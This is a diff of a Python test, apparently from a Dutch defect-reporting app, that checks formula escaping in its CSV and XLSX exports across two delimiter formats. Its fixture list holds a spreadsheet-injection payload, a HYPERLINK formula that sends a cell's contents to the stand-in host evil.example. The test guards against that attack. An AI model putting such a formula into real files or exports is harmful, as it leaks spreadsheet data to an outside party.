@@ -401,11 +401,14 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"klik")', "+31 6 12345678", "
 def test_exports_write_a_formula_as_text(api_app, admin, formula):
     assert correction(admin, "munitiebeheer", {"plan_van_aanpak": formula}).status_code == 201
     client = signed_in(api_app)
-    for response in (client.get("/rapporten/onvolkomenheden.csv"),
-                     admin.get("/api/v1/reports/onvolkomenheden?format=csv")):
+    for response, delimiter in ((client.get("/rapporten/onvolkomenheden.csv"), ";"),
+                                (client.get("/rapporten/onvolkomenheden.csv?vorm=internationaal"), ","),
+                                (admin.get("/api/v1/reports/onvolkomenheden?format=csv"), ";"),
+                                (admin.get("/api/v1/reports/onvolkomenheden?format=csv&vorm=internationaal"), ",")):
         assert response.status_code == 200
-        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
-        assert next(row for row in rows if row[0] == "Munitiebeheer")[1] == "'" + formula
+        text = response.get_data(as_text=True).lstrip("\ufeff")
+        rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
+        assert next(row for row in rows if row and row[0] == "Munitiebeheer")[1] == "'" + formula
     from openpyxl import load_workbook
 
     book = load_workbook(io.BytesIO(client.get("/rapporten/onvolkomenheden.xlsx").data))
